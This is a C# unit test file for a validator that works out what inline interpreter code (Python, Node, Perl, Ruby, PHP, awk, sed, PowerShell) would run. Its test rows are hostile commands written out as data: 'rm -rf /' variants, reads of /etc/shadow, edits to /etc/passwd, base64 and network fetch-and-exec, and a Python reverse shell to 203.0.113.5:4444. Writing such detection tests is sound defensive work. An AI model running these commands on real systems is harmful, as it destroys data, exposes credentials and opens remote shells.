using Arrea.Dataflow.Validation.CommandLines;

namespace Arrea.Dataflow.Tests.Validation.CommandLines;

[TestClass]
public sealed class CodeTests
{
    [TestMethod]
    [DataRow("python3", "-c", "import shutil; shutil.rmtree('/home')", "<Code> [rm|-rf|/home]")]
    [DataRow("python3.12", "-c", "import os\nos.system('rm -rf /')", "<Code> python 'rm -rf /'")]
    [DataRow("python", "-c", "import subprocess;subprocess.run(['rm','-rf','/'], check=True)", "<Code> [rm|-rf|/]")]
    [DataRow("python", "-c", "__import__('os').system('id')", "<Code> python 'id'")]
    [DataRow("python", "-c", "import os; c = 'rm ' ; os.system(c + '-rf /')", "<Code> python 'rm -rf /'")]
    [DataRow("python", "-c", "import os; os.system('r' 'm -rf /')", "<Code> python 'rm -rf /'")]
    [DataRow("python", "-c", "import os; os.execvp('rm', ['rm', '-rf', '/'])", "<Code> [rm|-rf|/]")]
    [DataRow("python", "-c", "open('/etc/passwd', 'w').write('x')", "<Code> [tee|/etc/passwd]")]
    [DataRow("python", "-c", "print(open('/etc/shadow').read())", "<Code> [cat|/etc/shadow]")]
    [DataRow("python", "-c", "import os; os.remove('/etc/passwd')", "<Code> [rm|-f|/etc/passwd]")]
    [DataRow("python", "-c", "exec('import os; os.system(\"id\")')", "<Code> python 'id'")]
    [DataRow("python", "-c", "import subprocess; subprocess.Popen('rm -rf /', shell=True, encoding='utf8')", "<Code> python 'rm -rf /'")]
    [DataRow("python", "-c", "import pathlib; pathlib.Path('/etc/passwd').unlink()", "<Code> [rm|-f|/etc/passwd]")]
    [DataRow("python", "-c", "from os import system as s; s('id')", "<Code> python 'id'")]
    [DataRow("python", "-c", "import os; getattr(os, 'system')('id')", "<Code> python 'id'")]
    [DataRow("python", "-c", "import shutil, os; shutil.rmtree(os.path.expanduser('~/x'))", "<Code> [rm|-rf|~/x]")]
    [DataRow("groovy", "-e", "'id'.execute()", "<Code> groovy 'id'")]
    [DataRow("node", "-e", "require('child_process').execSync('rm -rf /')", "<Code> node 'rm -rf /'")]
    [DataRow("node", "-e", "require('child_process').spawn('sh', ['-c', 'id'], {stdio: 'inherit'})", "<Code> [sh|-c|id]")]
    [DataRow("node", "-e", "require('fs').rmSync('/etc', { recursive: true, force: true })", "<Code> [rm|-rf|/etc]")]
    [DataRow("node", "--eval", "fs.writeFileSync(`/etc/x`, 'y')", "<Code> [tee|/etc/x]")]
    [DataRow("perl", "-e", "system('rm -rf /');", "<Code> perl 'rm -rf /'")]
    [DataRow("perl", "-e", "system 'rm', '-rf', '/'", "<Code> [rm|-rf|/]")]
    [DataRow("perl", "-ne", "`rm -rf /`", "<Code> perl 'rm -rf /'")]
    [DataRow("perl", "-e", "qx{rm -rf /}", "<Code> perl 'rm -rf /'")]
    [DataRow("perl", "-e", "exec q(rm -rf /)", "<Code> perl 'rm -rf /'")]
    [DataRow("perl", "-e", "unlink '/etc/passwd'", "<Code> [rm|-f|/etc/passwd]")]
    [DataRow("expect", "-c", "spawn rm -rf /", "<Code> expect 'rm -rf /'")]
    [DataRow("perl", "-lane", "print $F[0]", "")]
    [DataRow("ruby", "-e", "system('rm', '-rf', '/')", "<Code> [rm|-rf|/]")]
    [DataRow("ruby", "-e", "exec \"rm -rf /\"", "<Code> ruby 'rm -rf /'")]
    [DataRow("ruby", "-e", "%x(rm -rf /)", "<Code> ruby 'rm -rf /'")]
    [DataRow("ruby", "-e", "require 'fileutils'; FileUtils.rm_rf('/')", "<Code> [rm|-rf|/]")]
    [DataRow("php", "-r", "system(\"rm -rf /\");", "<Code> php 'rm -rf /'")]
    [DataRow("php", "-r", "unlink('/etc/passwd');", "<Code> [rm|-f|/etc/passwd]")]
    [DataRow("php", "-r", "echo `id`;", "<Code> php 'id'")]
    [DataRow("lua", "-e", "os.execute('rm -rf /')", "<Code> lua 'rm -rf /'")]
    [DataRow("Rscript", "-e", "system('rm -rf /')", "<Code> Rscript 'rm -rf /'")]
    [DataRow("osascript", "-e", "do shell script \"rm -rf /\"", "<Code> osascript 'rm -rf /'")]
    [DataRow("emacs", "--eval", "(shell-command \"rm -rf /\")", "<Code> emacs 'rm -rf /'")]
    public void Of_Code_TellsWhatItRuns(string name, string option, string code, string expected)
    {
        var inner = Inner(name, option, code);

        Assert.AreEqual((expected.Length == 0 ? "" : expected + " ; ") + $"code '{code}'", inner);
    }

    [TestMethod]
    [DataRow("exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "Decoder")]
    [DataRow("exec(urllib.request.urlopen('https://h').read())", "Network")]
    [DataRow("import os; os.system(__import__('base64').b64decode('aWQ=').decode())", "Decoder")]
    public void Of_CodeThatRunsHiddenText_SaysWhereThatComesFrom(string code, string expected)
        => Assert.IsTrue(Inner("python3", "-c", code).EndsWith($"code '{code}' from {expected}", StringComparison.Ordinal), Inner("python3", "-c", code));

    [TestMethod]
    [DataRow("import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")]
    public void Of_CodeThatConnectsAShell_IsWhatNetcatDoes(string code)
        => Assert.IsTrue(Inner("python3", "-c", code).Contains("[nc|-e|/bin/sh|203.0.113.5|1]", StringComparison.Ordinal), Inner("python3", "-c", code));

    [TestMethod]
    [DataRow("{print $1}", "understood")]
    [DataRow("$1 > 5 { n++ } END { print n }", "understood")]
    [DataRow("/a\\/b/ || /system/ { gsub(/x/, \"|\"); print }", "understood")]
    [DataRow("BEGIN { system(\"rm -rf /\") }", "<Code> awk 'rm -rf /' ; by system() ; understood")]
    [DataRow("{ system(\"rm \" $1) }", "<Code> awk 'rm $1' ; by system() ; code")]
    [DataRow("{ print | \"sh\" }", "<Code> awk 'sh' ; by system() ; understood")]
    [DataRow("BEGIN { \"id\" | getline x; print x }", "<Code> awk 'id' ; by system() ; understood")]
    [DataRow("{ print > \"/etc/x\" }", "<Code> [tee|/etc/x] ; understood")]
    [DataRow("BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line }", "<Code> [cat|/etc/shadow] ; understood")]
    [DataRow("{ print ($1 > 2) }", "understood")]
    [DataRow("{ cmd = \"x\"; cmd | getline }", "<Code> awk 'x' ; by system() ; understood")]
    [DataRow("{ cmd | getline }", "<Code> awk 'a command of the awk program' ; by system() ; code")]
    [DataRow("{ print | \"sort\" }", "<Code> awk 'sort' ; understood")]
    [DataRow("{ c = \"x\"; c = $1; system(c) }", "<Code> awk 'c' ; by system() ; code")]
    public void Of_Awk_IsReadToItsEnd(string program, string expected) => Assert.AreEqual($"{expected} '{program}'", Inner("awk", program));

    [TestMethod]
    [DataRow("1,5p", "understood")]
    [DataRow("s/a/b/g; s|x|y|; /x/d", "understood")]
    [DataRow("s/a\\/b/c/;$!N;P;D", "understood")]
    [DataRow("1e rm -rf ~", "by e ; <Code> sed 'rm -rf ~' ; understood")]
    [DataRow("s/.*/rm -rf x/e", "by s///e ; <Code> sed 'rm -rf x' ; understood")]
    [DataRow("s/x/y/w /etc/x", "<Code> [tee|/etc/x] ; understood")]
    [DataRow("w /etc/x", "<Code> [tee|/etc/x] ; understood")]
    [DataRow("r /etc/shadow", "<Code> [cat|/etc/shadow] ; understood")]
    [DataRow("y/abc/xyz/", "understood")]
    [DataRow(":a;N;$!ba;s/\\n/ /g", "understood")]
    [DataRow("/begin/,/end/{ s/a/b/; p }", "understood")]
    [DataRow("/x/i\\\ntext; e id", "understood")]
    [DataRow("e", "by e ; <Code> sed 'a line of the input' ; understood")]
    [DataRow("?x", "code")]
    public void Of_Sed_IsReadToItsEnd(string script, string expected) => Assert.AreEqual($"{expected} '{script}'", Inner("sed", script));

    [TestMethod]
    [DataRow("powershell", "-enc", "UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==", "code 'Remove-Item' from Decoder")]
    [DataRow("pwsh", "-Command", "ls", "code 'ls'")]
    [DataRow("cmd", "/c", "del x", "code 'del x'")]
    [DataRow("python3", "x.py", "a", "python3 runs x.py")]
    [DataRow("python3", "-m", "venv", "")]
    [DataRow("python3", "-", "a", "python3 reads code")]
    [DataRow("jq", ".a", "x", "")]
    [DataRow("perl", "-pe", "s/a/b/g; tr/a-z/A-Z/", "understood 's/a/b/g; tr/a-z/A-Z/'")]
    [DataRow("perl", "-pe", "s/a/b/e", "code 's/a/b/e'")]
    [DataRow("perl", "-pe", "s/a/@{[1]}/", "code 's/a/@{[1]}/'")]
    public void Of_Interpreter_TellsWhereItsCodeIs(string name, string first, string second, string expected) => Assert.AreEqual(expected, Inner(name, first, second));

    private static string Inner(string name, params ReadOnlySpan<string> arguments)
        => string.Join(" ; ", InnerPrograms.Of(Rows.Plain(name, arguments)).Select(Rows.Show));
}
